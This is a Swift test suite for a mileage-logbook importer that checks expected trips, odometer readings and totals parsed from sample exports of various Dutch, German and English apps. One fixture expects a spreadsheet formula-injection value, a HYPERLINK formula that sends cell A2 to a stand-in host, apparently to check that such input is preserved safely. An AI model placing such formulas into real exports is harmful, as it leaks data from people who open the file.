import Foundation
import LogbookModel
import Testing

@testable import TripExchange

/// Every sample of what people have, with what is in it; all values counted by hand in the files.
@Suite struct LayoutTableTests {
  /// What a file of trips is.
  struct Expected: CustomTestStringConvertible, Sendable {
    let file: String
    /// How many rows are read, and how many trips come of them.
    let read: Int
    let trips: Int
    /// Date, readings and places of the first and of the last trip.
    let first: String
    let last: String
    /// Tenths of a km of all trips together.
    let total: Int
    /// A letter for the kind of each trip: z, w, p, or - for none.
    let kinds: String
    /// Line and reason of the rows that are skipped or refused.
    var others: [String] = []
    var options: @Sendable (inout ImportOptions) -> Void = { _ in }

    var testDescription: String { file }
  }

  private static let lindelaan = "Lindelaan 4, 3511 ZZ Utrecht"

  static let files: [Expected] = [
    Expected(
      file: "nl-belastingdienst-velden.csv", read: 5, trips: 5,
      first: "2026-01-05 482100-482480 \(lindelaan) > Havenkade 18, 3011 ZX Rotterdam",
      last: "2026-01-12 483170-483890 \(lindelaan) > Zuiderweg 101, 8011 ZW Zwolle",
      total: 1_790, kinds: "zzppz"),
    Expected(
      file: "nl-app-alle-velden-aangehaald.csv", read: 4, trips: 4,
      first: "2026-01-05 120400-120780 \(lindelaan) > Havenkade 18, 3011 ZX Rotterdam",
      last: "2026-01-10 121350-121470 Kantoorpark 1, 3584 ZX Utrecht > Marktplein 2, 3401 ZY "
        + "IJsselstein", total: 1_070, kinds: "zzwp"),
    Expected(
      file: "nl-pwa-kop-en-totaalregels.csv", read: 5, trips: 3,
      first: "2026-02-02 301000-301514 Lindelaan 4, Utrecht > Stationsplein 9, Amersfoort",
      last: "2026-02-07 302089-302210 Lindelaan 4, Utrecht > Bosrand 77, Zeist",
      total: 1_210, kinds: "zzp", others: ["11 overslaan.totaal", "12 overslaan.totaal"]),
    // The end of 8 January is the begin of the 9th: 139 km.
    Expected(
      file: "nl-spreadsheet-met-kopblok.csv", read: 5, trips: 4,
      first: "2025-01-06 201100-201720 Utrecht > Zwolle, Zuiderweg 101",
      last: "2025-01-09 203790-203910 Utrecht > Zeist, Bosrand 77",
      total: 2_810, kinds: "zzzp", others: ["11 overslaan.totaal"]),
    Expected(
      file: "de-openfahrtenbuch.csv", read: 4, trips: 3,
      first: "2026-01-05 102000-102620 Birkenweg 7, 48149 Münster > Werkstraße 12, 33602 Bielefeld",
      last: "2026-01-06 103310-103500  > ", total: 1_500, kinds: "zzp",
      others: ["5 overslaan.vervallen"]),
    Expected(
      file: "de-fahrtenbuch-simulator.csv", read: 3, trips: 3,
      first: "2025-01-02 102000-102620 Birkenweg 7, Münster > Werkstraße 12, Bielefeld",
      last: "2025-01-03 103310-103500  > ", total: 1_500, kinds: "zzp"),
    Expected(
      file: "de-skoda-infotainment.csv", read: 4, trips: 4,
      first: "2026-05-04 200100-200410 Musterstadt > Beispieldorf",
      last: "2026-05-09 200800-200920  > ", total: 820, kinds: "zzwp"),
    Expected(
      file: "de-react-app.csv", read: 3, trips: 3,
      first: "2026-01-05 102000-102620 Münster > Bielefeld",
      last: "2026-01-10 102690-102810  > Münster", total: 810, kinds: "zwp"),
    // No readings: the distances are chained from the 0 of the car.
    Expected(
      file: "de-ha-ev-fahrtenbuch.csv", read: 3, trips: 3, first: "2025-12-05 0-314  > ",
      last: "2025-12-06 634-675  > ", total: 675, kinds: "---"),
    Expected(
      file: "en-autumandu-generic.csv", read: 3, trips: 3,
      first: "2026-05-04 200100-200410 Home > Client",
      last: "2026-05-09 200730-200850 Home > Party", total: 750, kinds: "zzp"),
    Expected(
      file: "en-lubelogger-odometer-nl-locale.csv", read: 3, trips: 3,
      first: "2026-01-05 482100-482480  > ", last: "2026-01-10 482930-483050  > ",
      total: 950, kinds: "zzp"),
    Expected(
      file: "en-lubelogger-odometer-us.csv", read: 4, trips: 4,
      first: "2026-01-05 482100-482480  > ", last: "2026-01-12 483050-483890  > ",
      total: 1_790, kinds: "----", options: { $0.dateOrder = .monthFirst }),
    Expected(
      file: "en-teslamate-dutch-tax.csv", read: 3, trips: 3,
      first: "2026-01-05 482100-482480 Lindelaan 4, Utrecht > Havenkade 18, Rotterdam",
      last: "2026-01-12 483170-483890 Lindelaan 4, Utrecht > Zuiderweg 101, Zwolle",
      total: 1_550, kinds: "---"),
    Expected(
      file: "en-traccar-trips.csv", read: 3, trips: 3,
      first: "2026-01-05 482104-482486 Lindelaan 4, Utrecht, NL > Havenkade 18, Rotterdam, NL",
      last: "2026-01-05 482935-483051 Lindelaan 4, Utrecht, NL > Bosrand 77, Zeist, NL",
      total: 947, kinds: "---"),
    // 5.980,2 and 44.120,7 metres.
    Expected(
      file: "en-fuelio-route-zonder-kop.csv", read: 1, trips: 1,
      first: "2026-01-05 10000-10501 52.0907, 5.1214 > 51.92, 4.48",
      last: "2026-01-05 10000-10501 52.0907, 5.1214 > 51.92, 4.48", total: 501, kinds: "-",
      options: { $0.beginReading = km(1_000) }),
    // Miles: 30,2 is 48,6 km, 31,1 is 50,1, 8,2 is 13,2 and 5 is 8,0.
    Expected(
      file: "en-mileiq-detailed-log.csv", read: 5, trips: 4,
      first: "2026-03-02 0-486 Home > Sample Office Park", last: "2026-03-07 1119-1199 Home > Park",
      total: 1_199, kinds: "zzwp", others: ["15 overslaan.totaal"]),
    Expected(
      file: "en-fuelly-acar-sections.csv", read: 3, trips: 2,
      first: "2026-01-05 936000-936380 Home > Client",
      last: "2026-01-05 936380-936830 Client > Home", total: 830, kinds: "zz",
      others: ["10 weiger.standen.eind"], options: { $0.dateOrder = .monthFirst }),
    // The readings are in miles like the distances between them: 48.210 miles is 77.586,5 km.
    Expected(
      file: "en-ai-boekhouding.csv", read: 3, trips: 3, first: "2026-01-05 775865-776476  > ",
      last: "2026-01-10 777200-777394  > ", total: 1_529, kinds: "---"),
    Expected(
      file: "variant-excel-nl-windows1252.csv", read: 3, trips: 3,
      first: "2026-01-05 482100-482475 Café ’t Hoekje, Ærøstraat 1, Súdwest-Fryslân > Köln, "
        + "Straße 12",
      last: "2026-01-10 482930-483050 ’s-Gravenhage, Plein 1 > IJsselstein, Coöperatieweg 3",
      total: 950, kinds: "zzp"),
    Expected(
      file: "variant-excel-utf8-bom.csv", read: 3, trips: 3,
      first: "2026-01-05 482100-482475 Café ’t Hoekje, Ærøstraat 1, Súdwest-Fryslân > Köln, "
        + "Straße 12",
      last: "2026-01-10 482930-483050 ’s-Gravenhage, Plein 1 > IJsselstein, Coöperatieweg 3",
      total: 950, kinds: "zzp"),
    Expected(
      file: "variant-excel-unicode-tekst-utf16le.txt", read: 3, trips: 3,
      first: "2026-01-05 482100-482475 Café ’t Hoekje, Ærøstraat 1, Súdwest-Fryslân > Köln, "
        + "Straße 12",
      last: "2026-01-10 482930-483050 ’s-Gravenhage, Plein 1 > IJsselstein, Coöperatieweg 3",
      total: 950, kinds: "zzp"),
    Expected(
      file: "variant-formules.csv", read: 3, trips: 3,
      first: "2026-01-05 482100-482480 Lindelaan 4 > "
        + "=HYPERLINK(\"http://example.invalid/?x=\"&A2;\"klik\")",
      last: "2026-01-07 482600-482700 \t=1+1 > Lindelaan 4", total: 600, kinds: "zpp"),
    Expected(
      file: "variant-nfd-nbsp-regeleinden-in-cel.csv", read: 2, trips: 2,
      first: "2026-01-05 482100-482480 Lindelaan 4 > Café Zeën",
      last: "2026-01-10 482480-482600 Café Zeën > Lindelaan 4", total: 500, kinds: "pz"),
    Expected(
      file: "de-fosstenbuch-met-wijzigingslog.csv", read: 6, trips: 2,
      first: "2026-01-05 102000-102620 Münster > Bielefeld",
      last: "2026-01-05 102620-103310 Bielefeld > Münster", total: 1_310, kinds: "zz",
      others: [
        "7 overslaan.vervallen", "9 overslaan.deel", "10 overslaan.deel", "11 overslaan.deel",
      ]),
  ]

  /// Files that are refused as a whole, with the reason.
  static let refused = [
    ("nl-ov-chipkaart.csv", "fout.import.geen.ritten"),
    ("en-lubelogger-odometer-us.csv", "fout.import.datumvolgorde"),
    ("en-fuelly-acar-sections.csv", "fout.import.datumvolgorde"),
  ]

  /// Files of readings: how many of them.
  static let readings = [
    ("en-fuelio-backup.csv", 3), ("nl-evcc-laadsessies.csv", 2), ("en-vrije-tekst-ankers.txt", 5),
  ]

  @Test(arguments: files)
  func `the trips of a sample`(expected: Expected) throws {
    let options = options {
      $0.forVehicle = 1
      expected.options(&$0)
    }
    let file = try TripFile(
      name: expected.file, bytes: sample(expected.file), layouts: shippedLayouts, options: options)
    let plan = ImportPlan(files: [file], existing: try logbook(), options: options)
    #expect(plan.files[0].read == expected.read)
    #expect(plan.files[0].isBalanced)
    #expect(plan.trips.count == expected.trips)
    #expect(plan.trips.first.map(line) == expected.first)
    #expect(plan.trips.last.map(line) == expected.last)
    #expect(plan.trips.reduce(0) { $0 + $1.distance.tenths } == expected.total)
    #expect(
      plan.trips.map { $0.kind.map { String($0.rawValue.prefix(1)) } ?? "-" }.joined()
        == expected.kinds)
    let others =
      plan.files[0].skipped.map { ($0.line, $0.reason.key) }
      + plan.files[0].refused.map { ($0.line, $0.reason.key) }
    #expect(others.map { "\($0.0) \($0.1)" } == expected.others)
  }

  @Test(arguments: refused)
  func `samples that are refused`(file: String, key: String) throws {
    let bytes = try sample(file)
    let failure = #expect(throws: Failure.self) { try read(bytes) }
    #expect(failure?.key == key)
  }

  @Test(arguments: readings)
  func `samples of readings`(file: String, count: Int) throws {
    let options = options { $0.forVehicle = 1 }
    let files = try TripFile.all(
      name: file, source: ByteSource(sample(file)), layouts: shippedLayouts, options: options)
    let plan = ImportPlan(files: files, existing: try logbook(), options: options)
    #expect(plan.readings.count == count)
    #expect(plan.trips.isEmpty)
  }

  @Test func `every sample of text is here`() throws {
    let folder = URL(fileURLWithPath: #filePath).deletingLastPathComponent()
      .deletingLastPathComponent().appending(path: "Layouts")
    let names = try FileManager.default.contentsOfDirectory(atPath: folder.path)
      .filter { $0.hasSuffix(".csv") || $0.hasSuffix(".txt") }
    let known = Set(
      LayoutTableTests.files.map { $0.file } + LayoutTableTests.refused.map { $0.0 }
        + LayoutTableTests.readings.map { $0.0 })
    #expect(Set(names) == known)
  }

  @Test func `details that the table has no room for`() throws {
    let sheet = try plan("nl-spreadsheet-met-kopblok.csv")
    #expect(sheet.map { $0.detour.tenths } == [0, 60, 0, 0])
    #expect(sheet.map { $0.route } == [nil, "via Apeldoorn", nil, nil])
    #expect(sheet.map { $0.derived } == [nil, nil, .end, nil])
    let mixed = try plan("en-autumandu-generic.csv")
    #expect(mixed.map { $0.detour.tenths } == [0, 40, 0])
    #expect(mixed.map { $0.arrival?.text } == ["08:31", "17:40", "00:07"])
    let skoda = try plan("de-skoda-infotainment.csv")
    #expect(skoda.map { $0.arrival?.text } == ["08:31", "17:40", "08:11", "00:07"])
    #expect(try plan("de-react-app.csv").map { $0.arrival?.text } == ["08:55", "08:12", "11:20"])
    #expect(
      try plan("de-ha-ev-fahrtenbuch.csv").map { $0.arrival?.text } == ["08:42", "17:40", "11:08"])
    #expect(
      try plan("en-traccar-trips.csv").map { $0.arrival?.text } == ["08:52", "17:49", "00:12"])
  }

  private func plan(_ name: String) throws -> [Trip] {
    let options = options { $0.forVehicle = 1 }
    let file = try TripFile(
      name: name, bytes: sample(name), layouts: shippedLayouts, options: options)
    return Array(ImportPlan(files: [file], existing: try logbook(), options: options).trips)
  }

  private func line(_ trip: Trip) -> String {
    "\(trip.date.iso) \(trip.begin.tenths)-\(trip.end.tenths) \(trip.from) > \(trip.to)"
  }
}
